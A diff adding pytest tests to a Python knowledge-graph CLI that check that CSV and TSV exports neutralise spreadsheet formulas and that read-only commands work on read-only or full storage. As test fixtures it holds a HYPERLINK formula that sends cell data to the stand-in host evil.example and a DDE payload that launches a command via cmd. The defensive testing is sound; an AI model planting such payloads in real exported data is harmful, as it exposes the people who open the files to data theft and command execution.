@@ -8,6 +8,7 @@ import io
 import json
 import subprocess
 import sys
+from pathlib import Path
 from types import SimpleNamespace
 
 import pytest
@@ -213,3 +214,156 @@ def test_open_error_mentioning_lock_is_not_busy(run_kg, tmp_path):
     (tmp_path / "locked").write_text("a file, not a folder")
     code, _, err = run_kg("build", "--store", str(tmp_path / "locked" / "store"))
     assert code == 3 and "is busy" not in err and "cannot open" in err, err
+
+
+# Spreadsheet-safe CSV and TSV -------------------------------------------------------------------
+
+#: An article title that LibreOffice turned into a live link carrying another cell to another site.
+HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&B2;"Les mer")'
+
+
+@pytest.fixture(scope="module")
+def hostile_store(tmp_path_factory) -> Path:
+    """The sample article's text ingested under a title that is a spreadsheet formula."""
+    from kg.assets import asset_path
+
+    folder = tmp_path_factory.mktemp("hostile")
+    text = asset_path("data", "articles", "drammen-2020-ks-storbynettverk.txt").read_text(encoding="utf-8")
+    record = {"id": "hostile", "title": HOSTILE_TITLE, "date": "2020-11-19", "language": "nb", "text": text}
+    (folder / "hostile.jsonl").write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
+    result = subprocess.run([sys.executable, "-m", "kg.cli", "ingest", str(folder / "hostile.jsonl"),
+                             "--store", str(folder / "store")], capture_output=True, text=True, timeout=300)
+    assert result.returncode == 0, result.stderr
+    return folder / "store"
+
+
+def cells(text: str, delimiter: str = ",") -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
+
+
+@pytest.mark.parametrize("args", [("query", "fact-sources", "-p", "entity=Drammen"),
+                                  ("analyse", "path", "Drammen", "Tromsø", "--as-of", "2021-06-01")])
+def test_csv_for_people_neutralises_formulas_and_raw_csv_is_exact(kg_process, hostile_store, args):
+    safe = kg_process(*args, "-f", "csv", "--store", hostile_store)
+    assert safe.returncode == 0, safe.stderr
+    found = cells(safe.stdout)
+    assert not [cell for cell in found if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert any(cell.startswith("'" + HOSTILE_TITLE) for cell in found), safe.stdout[:500]
+    raw = kg_process(*args, "-f", "csv-raw", "--store", hostile_store)
+    assert raw.returncode == 0, raw.stderr
+    assert any(cell.startswith(HOSTILE_TITLE) for cell in cells(raw.stdout))
+    assert raw.stdout.replace("'=", "=") == safe.stdout.replace("'=", "=")
+
+
+def test_query_csv_to_a_file_and_tsv_are_safe_and_negative_numbers_too(kg_process, hostile_store, tmp_path):
+    select = ('SELECT ?text ?n ?x WHERE { VALUES (?text ?n ?x) { ("@SUM(1+1)*cmd|\' /C calc\'!A0" -3 -0.5) '
+              '("+1" 7 "\\tx") } }')
+    out = tmp_path / "out.csv"
+    with out.open("w") as handle:  # not a terminal: csv by default
+        result = kg_process("query", "--store", hostile_store, stdin=select, stdout=handle)
+    assert result.returncode == 0, result.stderr
+    assert cells(out.read_text()) == ["text", "n", "x", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-3", "'-0.5",
+                                      "'+1", "7", "'\tx"]
+    raw = kg_process("query", "-f", "csv-raw", "--store", hostile_store, stdin=select)
+    assert cells(raw.stdout)[3:6] == ["@SUM(1+1)*cmd|' /C calc'!A0", "-3", "-0.5"]
+
+    tsv = kg_process("query", "-f", "tsv", "--store", hostile_store, stdin=select).stdout.splitlines()
+    assert tsv[0] == "?text\t?n\t?x"
+    assert tsv[1].split("\t") == ['"\'@SUM(1+1)*cmd|\' /C calc\'!A0"',
+                                  "\"'-3\"^^<http://www.w3.org/2001/XMLSchema#integer>",
+                                  "\"'-0.5\"^^<http://www.w3.org/2001/XMLSchema#decimal>"]
+    raw_tsv = kg_process("query", "-f", "tsv-raw", "--store", hostile_store, stdin=select).stdout.splitlines()
+    assert raw_tsv[1].split("\t")[:2] == ['"@SUM(1+1)*cmd|\' /C calc\'!A0"',
+                                          '"-3"^^<http://www.w3.org/2001/XMLSchema#integer>']
+    assert raw_tsv[2].split("\t")[2] == '"\\tx"'
+
+
+
+# Readers need no write access -------------------------------------------------------------------
+
+def readers(out: Path) -> list[tuple[str, ...]]:
+    return [("query", "counties", "-p", "date=2024-06-01", "-f", "json"), ("stats", "-f", "json"),
+            ("validate",), ("analyse", "centrality", "--graph", "comembership", "-f", "json"),
+            ("export", "-f", "json", "-o", str(out))]
+
+
+def assert_readers_read(kg_process, store: Path, out: Path, prefix: tuple[str, ...] = ()) -> None:
+    for args in readers(out):
+        result = kg_process(*args, "--store", store, prefix=prefix)
+        assert result.returncode == 0, (args, result.stderr)
+        assert result.stderr == "", (args, result.stderr)
+    assert json.loads(out.read_text())["nodes"]
+
+
+def test_readers_read_a_store_on_a_read_only_mount(kg_process, built_store_path, mounts, tmp_path):
+    view = mounts.read_only(built_store_path.parent)
+    assert_readers_read(kg_process, view / built_store_path.name, tmp_path / "graph.json")
+
+
+def test_readers_read_a_store_on_a_full_disk(kg_process, built_store_path, mounts, tmp_path):
+    import shutil
+
+    from conftest import fill
+
+    disk = mounts.tmpfs("96m")
+    shutil.copytree(built_store_path, disk / "store")
+    fill(disk)
+    assert_readers_read(kg_process, disk / "store", tmp_path / "graph.json")
+
+
+def test_readers_read_a_store_in_a_folder_they_cannot_write(kg_process, built_store_path, tmp_path):
+    import shutil
+
+    from conftest import WITHOUT_ROOT_POWERS
+
+    if not shutil.which(WITHOUT_ROOT_POWERS[0]):
+        pytest.skip("needs setpriv(1) to run kg without root's power to write anywhere")
+    store = tmp_path / "store"
+    shutil.copytree(built_store_path, store)
+    out = tmp_path / "written"
+    out.mkdir()
+    store.chmod(0o555)
+    try:
+        probe = subprocess.run([*WITHOUT_ROOT_POWERS, sys.executable, "-c",
+                                f"open({str(store / 'probe')!r}, 'w')"], capture_output=True, text=True)
+        if probe.returncode == 0:
+            pytest.skip("setpriv did not take away root's power to write into a folder of mode 555")
+        assert_readers_read(kg_process, store, out / "graph.json", prefix=WITHOUT_ROOT_POWERS)
+    finally:
+        store.chmod(0o755)
+
+
+def test_a_reader_still_says_when_the_store_is_missing_or_corrupt(kg_process, mounts, tmp_path):
+    (tmp_path / "empty").mkdir()
+    view = mounts.read_only(tmp_path / "empty")
+    result = kg_process("stats", "--store", view / "nowhere")
+    assert result.returncode == 3 and result.stderr.count("\n") == 1, result.stderr
+    assert result.stderr.startswith(f"kg: error: store {view / 'nowhere'}: cannot open: it does not exist and "
+                                    "cannot be created (Read-only file system)"), result.stderr
+
+    corrupt = tmp_path / "corrupt"
+    corrupt.mkdir()
+    (corrupt / "CURRENT").write_text("MANIFEST-000099\n")
+    (corrupt / "IDENTITY").write_text("x")
+    for store in (corrupt, mounts.read_only(corrupt)):
+        result = kg_process("stats", "--store", store)
+        assert result.returncode == 3 and result.stderr.count("\n") == 1, result.stderr
+        assert result.stderr.startswith(f"kg: error: store {store}: cannot open"), result.stderr
+        assert "Traceback" not in result.stderr
+
+
+def test_prefer_read_only_takes_no_write_lock_on_a_current_store(tmp_path):
+    """What a read-only ``kg serve`` asks for: a current store read without its write lock, so a
+    writer is not refused meanwhile; a fresh or outdated store is opened for writing and brought
+    up to date first."""
+    from kg.store import open_store, open_store_for_reading
+
+    path = tmp_path / "store"
+    with open_store_for_reading(path, prefer_read_only=True) as store:  # does not exist yet
+        assert not store.read_only
+    with open_store_for_reading(path, prefer_read_only=True) as store:
+        assert store.read_only and store.has_graph("https://w3id.org/kommunegraf/id/graph/reference")
+        with open_store(path, bootstrap=False):  # a writer is not refused as busy
+            pass
+    with open_store_for_reading(path) as store:  # without it: as before, for writing when possible
+        assert not store.read_only
